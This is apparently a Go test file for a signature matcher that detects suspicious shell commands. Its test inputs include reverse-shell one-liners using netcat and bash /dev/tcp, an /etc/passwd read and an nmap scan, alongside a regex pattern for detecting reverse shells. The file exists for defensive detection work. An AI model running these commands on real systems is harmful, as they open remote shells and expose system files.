package detect

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestMatcher_LiteralsWithOffsets(t *testing.T) {
	m, err := NewMatcher([]Signature{
		{ID: "nmap_scan", Pattern: "nmap", Description: "Nmap scan detected"},
		{ID: "passwd_access", Pattern: "cat /etc/passwd", Description: "Sensitive file access"},
	})
	require.NoError(t, err)

	got := m.Match("cat /etc/passwd && nmap 192.168.1.1")
	require.Len(t, got, 2)

	assert.Equal(t, "passwd_access", got[0].ID)
	assert.Equal(t, 0, got[0].Start)
	assert.Equal(t, 14, got[0].End)
	assert.Equal(t, OriginAho, got[0].Origin)

	assert.Equal(t, "nmap_scan", got[1].ID)
	assert.Equal(t, 19, got[1].Start)
	assert.Equal(t, 22, got[1].End)
}

func TestMatcher_OverlappingAndRepeated(t *testing.T) {
	m, err := NewMatcher([]Signature{
		{ID: "he", Pattern: "he"},
		{ID: "she", Pattern: "she"},
		{ID: "hers", Pattern: "hers"},
	})
	require.NoError(t, err)

	var ids []string
	for _, x := range m.Match("ushers she") {
		ids = append(ids, x.ID)
	}
	assert.Equal(t, []string{"she", "he", "hers", "she", "he"}, ids)
}

func TestMatcher_Regex(t *testing.T) {
	m, err := NewMatcher([]Signature{
		{ID: "revshell", Pattern: `nc\s+.*-e\s+\S+`, Description: "Reverse shell", Regex: true},
	})
	require.NoError(t, err)

	got := m.Match("nc 10.0.0.1 4444 -e /bin/sh")
	require.Len(t, got, 1)
	assert.Equal(t, OriginRegex, got[0].Origin)
	assert.Equal(t, 0, got[0].Start)
	assert.Equal(t, len("nc 10.0.0.1 4444 -e /bin/sh")-1, got[0].End)

	assert.Empty(t, m.Match("nc -lvp 4444"))
}

func TestNewMatcher_Rejects(t *testing.T) {
	_, err := NewMatcher([]Signature{{ID: "bad", Pattern: "(", Regex: true}})
	assert.Error(t, err)
	_, err = NewMatcher([]Signature{{ID: "empty"}})
	assert.Error(t, err)
}

func TestLabels(t *testing.T) {
	ms := []Match{
		{Signature: Signature{Pattern: "nmap", Description: "Nmap scan detected"}},
		{Signature: Signature{Pattern: "shred"}},
	}
	assert.Equal(t, []string{"Nmap scan detected", "shred"}, Labels(ms))
	assert.Nil(t, Labels(nil))
}

func TestDefaultCatalog(t *testing.T) {
	m := Default()
	assert.NotEmpty(t, m.Match("nmap -sV 10.0.0.5"))
	assert.NotEmpty(t, m.Match("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
	assert.Empty(t, m.Match("ls -la"))
}

func TestLoadCatalog_File(t *testing.T) {
	path := filepath.Join(t.TempDir(), "sigs.yaml")
	require.NoError(t, os.WriteFile(path, []byte("signatures:\n  - id: x\n    pattern: evil\n"), 0o600))

	sigs, err := LoadCatalog(path)
	require.NoError(t, err)
	assert.Equal(t, []Signature{{ID: "x", Pattern: "evil"}}, sigs)

	_, err = LoadCatalog(filepath.Join(t.TempDir(), "missing.yaml"))
	assert.Error(t, err)

	builtin, err := LoadCatalog("")
	require.NoError(t, err)
	assert.NotEmpty(t, builtin)
}
